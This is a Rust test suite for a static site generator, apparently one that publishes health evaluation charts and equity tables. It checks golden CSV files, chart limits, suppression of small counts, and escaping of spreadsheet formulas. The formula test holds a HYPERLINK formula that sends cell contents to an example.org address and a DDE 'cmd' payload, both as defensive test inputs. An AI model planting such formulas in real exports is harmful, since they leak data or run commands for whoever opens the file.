//! Evaluation data end to end: the CSV downloads of the `valid-charts` fixture match their
//! golden files, parse with the published columns and carry the reference implementation's
//! limits; and no small count of an equity table reaches any file of the built site.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

#[path = "common/files.rs"]
mod files;
use files::{copy_tree, scratch};

fn fixture() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/valid-charts")
}

/// Builds the library at `root` into `root/public` and returns every file by path.
fn build(root: &Path) -> BTreeMap<String, Vec<u8>> {
    let out = root.join("public");
    let status = Command::new(env!("CARGO_BIN_EXE_lantern"))
        .args(["build", "--no-history", "--root"])
        .arg(root)
        .arg("--out")
        .arg(&out)
        .status()
        .expect("run lantern");
    assert!(
        status.success(),
        "lantern build failed for {}",
        root.display()
    );
    walkdir::WalkDir::new(&out)
        .into_iter()
        .flatten()
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            let rel = e.path().strip_prefix(&out).expect("inside");
            let rel = rel.to_string_lossy().replace('\\', "/");
            (rel, fs::read(e.path()).expect("read output"))
        })
        .collect()
}

fn csv_rows(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader
        .headers()
        .expect("a header")
        .iter()
        .map(String::from)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.expect("a CSV row").iter().map(String::from).collect())
        .collect();
    (header, rows)
}

const SPC_COLUMNS: [&str; 6] = [
    "period",
    "value",
    "mean",
    "lower_limit",
    "upper_limit",
    "point_type",
];
const POINT_TYPES: [&str; 5] = [
    "common_cause",
    "improvement",
    "concern",
    "neutral_high",
    "neutral_low",
];

#[test]
fn chart_downloads_match_golden_files_and_parse_with_their_columns() {
    let root = scratch("charts-golden");
    copy_tree(&fixture().join("content"), &root.join("content"));
    let files = build(&root);
    let downloads: BTreeMap<&str, &str> = files
        .iter()
        .filter(|(p, _)| p.starts_with("evaluations/e/") && p.ends_with(".csv"))
        .map(|(p, b)| {
            let name = p.trim_start_matches("evaluations/e/");
            (name, std::str::from_utf8(b).expect("UTF-8 CSV"))
        })
        .collect();
    let expected_dir = fixture().join("expected-csv");
    if std::env::var_os("LANTERN_BLESS").is_some() {
        let _ = fs::remove_dir_all(&expected_dir);
        fs::create_dir_all(&expected_dir).expect("mkdir");
        for (name, text) in &downloads {
            fs::write(expected_dir.join(name), text).expect("bless");
        }
    }
    let mut expected = BTreeMap::new();
    for entry in fs::read_dir(&expected_dir).expect("expected-csv") {
        let entry = entry.expect("entry");
        let text = fs::read_to_string(entry.path()).expect("read");
        expected.insert(entry.file_name().to_string_lossy().into_owned(), text);
    }
    assert_eq!(
        downloads.keys().collect::<Vec<_>>(),
        expected.keys().collect::<Vec<_>>()
    );
    for (name, text) in &downloads {
        assert_eq!(
            *text, expected[*name],
            "{name} differs from its golden file (LANTERN_BLESS=1 to accept)"
        );
    }
    // Every chart download parses with exactly the published columns.
    for name in [
        "rnorm-outlier.csv",
        "rnorm-outlier-2.csv",
        "shift.csv",
        "trend.csv",
    ] {
        let (header, rows) = csv_rows(downloads[name]);
        assert_eq!(header, SPC_COLUMNS, "{name}");
        assert!(!rows.is_empty(), "{name}");
        for row in &rows {
            for number in &row[1..5] {
                assert!(number.parse::<f64>().is_ok(), "{name}: {row:?}");
            }
            assert!(POINT_TYPES.contains(&row[5].as_str()), "{name}: {row:?}");
        }
    }
    // The reference implementation's limits for rnorm(20) with the 15th value set to 10.
    let limits = |name: &str| {
        let (_, rows) = csv_rows(downloads[name]);
        (rows[0][3].clone(), rows[0][4].clone(), rows[14][5].clone())
    };
    let improvement = "improvement".to_string();
    assert_eq!(
        limits("rnorm-outlier.csv"),
        (
            "-2.383666".to_string(),
            "3.722497".to_string(),
            improvement.clone()
        )
    );
    assert_eq!(
        limits("rnorm-outlier-2.csv"),
        ("-4.596625".to_string(), "5.935457".to_string(), improvement)
    );
    // Eight low points then eight high ones, where lower is better.
    let (_, shift) = csv_rows(downloads["shift.csv"]);
    assert!(shift[..8].iter().all(|r| r[5] == "improvement"));
    assert!(shift[8..].iter().all(|r| r[5] == "concern"));
    // Seven rising points after the rebase, where higher is better; the rebase starts
    // new limits.
    let (_, trend) = csv_rows(downloads["trend.csv"]);
    let types: Vec<&str> = trend.iter().map(|r| r[5].as_str()).collect();
    assert_eq!(types[4..11], ["improvement"; 7]);
    assert!(
        types[..4]
            .iter()
            .chain(&types[11..])
            .all(|t| *t == "common_cause")
    );
    assert_ne!(trend[3][2], trend[4][2], "the rebase starts a new mean");
    // The equity download parses too, with suppressed cells marked [c].
    let (header, rows) = csv_rows(downloads["by-ethnicity.csv"]);
    assert_eq!(
        header,
        [
            "group",
            "label",
            "events",
            "population",
            "rate",
            "rate_ratio",
            "ci_lower",
            "ci_upper",
            "difference"
        ]
    );
    let black_african = rows.iter().find(|r| r[0] == "black-african").expect("row");
    assert_eq!(black_african[2], "[c]");
    assert_eq!(black_african[4], "[c]");
}

/// Builds the fixture with the equity table's data replaced by `data`.
fn build_with_equity(name: &str, data: &str) -> BTreeMap<String, Vec<u8>> {
    let root = scratch(name);
    copy_tree(&fixture().join("content"), &root.join("content"));
    fs::write(root.join("content/data/by-ethnicity.csv"), data).expect("write data");
    build(&root)
}

#[test]
fn small_counts_never_reach_the_built_site() {
    // Black African women: 6 events (below the threshold of 8). Black Caribbean: 19, the
    // smallest other count, hidden so that the total cannot give the 6 away.
    let first = "group,events,population\nwhite-british,120,9000\nblack-african,6,4217\nasian-pakistani,23,1532\nblack-caribbean,19,861\n";
    // The same table with 7 and 18: every shown figure, the total included, is unchanged.
    let second = "group,events,population\nwhite-british,120,9000\nblack-african,7,4217\nasian-pakistani,23,1532\nblack-caribbean,18,861\n";
    let a = build_with_equity("charts-disclosure-a", first);
    let b = build_with_equity("charts-disclosure-b", second);
    // No file of the site depends on the hidden counts: not the pages, the CSV
    // downloads, the charts, the JSON export nor the search index.
    assert_eq!(a.keys().collect::<Vec<_>>(), b.keys().collect::<Vec<_>>());
    for (path, bytes) in &a {
        assert!(
            *bytes == b[path],
            "{path} changes with a suppressed count, so it reveals it"
        );
    }
    // And the hidden figures are written nowhere, in any form lantern writes numbers:
    // the counts and the rates built on them (6/4217 and 19/861 per 1000, and their
    // ratios to 120/9000).
    let forbidden = [
        ">6<", ",6,", ">19<", ",19,", "1.42", "1.423", "22.07", ">22.1<", "0.107", "1.655", "1.66",
    ];
    for (path, bytes) in &a {
        if path.starts_with("assets/") {
            continue; // the theme's own files, the same for every library
        }
        let text = String::from_utf8_lossy(bytes);
        for f in forbidden {
            assert!(!text.contains(f), "{path} contains {f:?}");
        }
    }
    let page = String::from_utf8_lossy(&a["evaluations/e/index.html"]);
    let row = page
        .split("<tr")
        .find(|r| r.contains("Black or Black British - African"))
        .expect("a table row for Black African women");
    assert!(row.contains(">suppressed<"), "{row}");
    assert!(
        row.contains(">4217<"),
        "the population is not a small count: {row}"
    );
    // Shown figures do reach the site: the test would notice if nothing were written.
    assert!(page.contains(">23<") && page.contains(">120<"));
}

/// Builds the fixture with each `(name, text)` written over `content/{name}`.
fn build_with(name: &str, files: &[(&str, &str)]) -> BTreeMap<String, Vec<u8>> {
    let root = scratch(name);
    copy_tree(&fixture().join("content"), &root.join("content"));
    for (path, text) in files {
        fs::write(root.join("content").join(path), text).expect("write");
    }
    build(&root)
}

#[test]
fn small_counts_in_charts_never_reach_the_built_site() {
    let rare = fs::read_to_string(fixture().join("content/data/rare.csv")).expect("rare.csv");
    let qbl = fs::read_to_string(fixture().join("content/data/qbl-compliance.csv"))
        .expect("qbl-compliance.csv");
    assert!(rare.contains("2024-02,3,390\n") && qbl.contains("2024-03,46,50\n"));
    // February: 3 haemorrhages in 390 births, a small numerator. March: blood loss was
    // quantified at 46 of 50 births, so 4 births without, a small complement. Then the same
    // months with 6 in 390 and 44 of 50 (6 without): every file of the site must be the
    // same, or it gives the hidden counts away.
    let a = build_with(
        "charts-hidden-a",
        &[("data/rare.csv", &rare), ("data/qbl-compliance.csv", &qbl)],
    );
    let b = build_with(
        "charts-hidden-b",
        &[
            (
                "data/rare.csv",
                &rare.replace("2024-02,3,390", "2024-02,6,390"),
            ),
            (
                "data/qbl-compliance.csv",
                &qbl.replace("2024-03,46,50", "2024-03,44,50"),
            ),
        ],
    );
    assert_eq!(a.keys().collect::<Vec<_>>(), b.keys().collect::<Vec<_>>());
    for (path, bytes) in &a {
        assert!(
            *bytes == b[path],
            "{path} changes with a hidden period's counts, so it reveals them"
        );
    }
    // Nor is any of the four rates written anywhere, in the forms lantern writes numbers:
    // 3/390 and 6/390 per 100, 46/50 and 44/50 as a percentage.
    let forbidden = [
        "0.769231", ">0.77<", "1.538462", ">1.54<", ",92,", ">92<", "92%", ",88,", ">88<", "88%",
    ];
    for (path, bytes) in &a {
        if path.starts_with("assets/") {
            continue;
        }
        let text = String::from_utf8_lossy(bytes);
        for f in forbidden {
            assert!(!text.contains(f), "{path} contains {f:?}");
        }
    }
    // The page says so under each chart, and the downloads mark the periods `[c]`.
    let page = String::from_utf8_lossy(&a["evaluations/e/index.html"]);
    for month in ["Feb 2024", "Mar 2024"] {
        let note = format!(
            "<p class=\"figure-note\">1 month with fewer than 8 events, or fewer than 8 without the event, is not shown ({month}), so that no one can be identified; the mean and limits come from the months shown.</p>"
        );
        assert!(page.contains(&note), "{note}");
    }
    let download =
        |name: &str| String::from_utf8_lossy(&a[&format!("evaluations/e/{name}")]).into_owned();
    assert!(download("rare.csv").contains("\n2024-02,[c],"));
    assert!(download("qbl-compliance.csv").contains("\n2024-03,[c],"));
    // The months shown are there.
    assert!(download("qbl-compliance.csv").contains("\n2024-02,82.692308,"));
}

#[test]
fn csv_downloads_neutralise_formulas_and_keep_numbers() {
    // A group id from the data file and a label from library.yaml that a spreadsheet
    // would run as formulas.
    let groups = "group,events,population\nwhite-british,120,9000\nblack-african,6,4217\nasian-pakistani,23,1532\nblack-caribbean,19,861\n\"=HYPERLINK(\"\"https://example.org/?\"\"&A1,\"\"Open\"\")\",40,8000\n";
    let config = fs::read_to_string(fixture().join("content/library.yaml")).expect("config");
    let config = config.replace(
        "asian-pakistani: Asian or Asian British - Pakistani",
        "asian-pakistani: \"@SUM(1+1)*cmd|' /C calc'!A0\"",
    );
    let files = build_with(
        "charts-formulas",
        &[("data/by-ethnicity.csv", groups), ("library.yaml", &config)],
    );
    let text = std::str::from_utf8(&files["evaluations/e/by-ethnicity.csv"]).expect("UTF-8");
    let (_, rows) = csv_rows(text);
    let row = |label_start: &str| {
        rows.iter()
            .find(|r| r[1].starts_with(label_start))
            .unwrap_or_else(|| panic!("a row labelled {label_start}: {text}"))
    };
    let link = row("'=HYPERLINK(");
    assert_eq!(
        link[0],
        "'=HYPERLINK(\"https://example.org/?\"&A1,\"Open\")"
    );
    // Its rate, 5 per 1000, is below the reference's 13.3: a negative difference, which
    // is a number and stays one.
    assert_eq!(link[8], "-8.3333");
    assert_eq!(row("'@SUM(")[0], "asian-pakistani");
    // No text cell of any download begins as a formula would.
    for (path, bytes) in files.iter().filter(|(p, _)| p.ends_with(".csv")) {
        let (header, rows) = csv_rows(std::str::from_utf8(bytes).expect("UTF-8"));
        for cell in rows.iter().flatten().chain(&header) {
            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(
                !formula || cell.parse::<f64>().is_ok(),
                "{path}: {cell:?} would run as a formula"
            );
        }
    }
}

#[test]
fn a_linked_data_file_with_a_small_count_fails_the_check() {
    let root = scratch("charts-linked-small");
    copy_tree(&fixture().join("content"), &root.join("content"));
    let doc = root.join("content/evaluations/e.md");
    let text = fs::read_to_string(&doc).expect("read");
    fs::write(
        &doc,
        text.replace("Body.", "The [raw data](../data/by-ethnicity.csv)."),
    )
    .expect("write");
    let out = Command::new(env!("CARGO_BIN_EXE_lantern"))
        .args(["check", "--no-history", "--root"])
        .arg(&root)
        .output()
        .expect("run lantern");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("error[small-count]")
            && stderr.contains("content/data/by-ethnicity.csv:3:15"),
        "{stderr}"
    );
}
